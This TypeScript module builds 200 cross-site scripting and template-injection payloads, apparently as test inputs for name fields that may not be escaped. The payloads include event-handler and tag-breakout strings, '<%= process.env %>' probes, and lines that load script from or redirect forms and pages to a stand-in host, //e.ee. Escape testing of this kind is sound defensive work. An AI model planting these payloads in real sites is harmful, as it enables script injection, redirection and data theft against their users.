/** Texts that become script in a page that forgets to escape one of the places where it writes a name. */
const CALLS = ['alert(1)', 'alert`1`', 'top.x=1', 'fetch("//e.ee")'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'];
const BREAKOUTS = ['', '">', "'>", '</title>', '</p>', '</dl>', '</template>', '-->', '</script>', '"/>'];
const ELEMENTS = ['img src=x', 'svg', 'input autofocus', 'details open', 'body', 'video src=x'];
const OTHERS = [
  '<%= process.env %>',
  '<%~ it.texts %>',
  '{{7*7}}',
  '${7*7}',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '<script src=//e.ee></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<a href=javascript:alert(1)>x</a>',
  '<meta http-equiv=refresh content=0;url=//e.ee>',
  '<base href=//e.ee>',
  '<link rel=stylesheet href=//e.ee>',
  '<form action=//e.ee><button>x',
  '<iframe srcdoc=x>',
  '<object data=//e.ee>',
  '<!--',
  '<![CDATA[x]]>',
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="x:y',
];

function combined(): string[] {
  const texts: string[] = [];
  for (const breakout of BREAKOUTS)
    for (const element of ELEMENTS)
      for (const [at, handler] of HANDLERS.entries())
        texts.push(`${breakout}<${element} ${handler}=${CALLS[at % CALLS.length]}>`);
  return texts;
}

/** 200 of them, each short enough for the name of a partner. */
export const SCRIPT_PAYLOADS: readonly string[] = [...OTHERS, ...combined()].slice(0, 200);
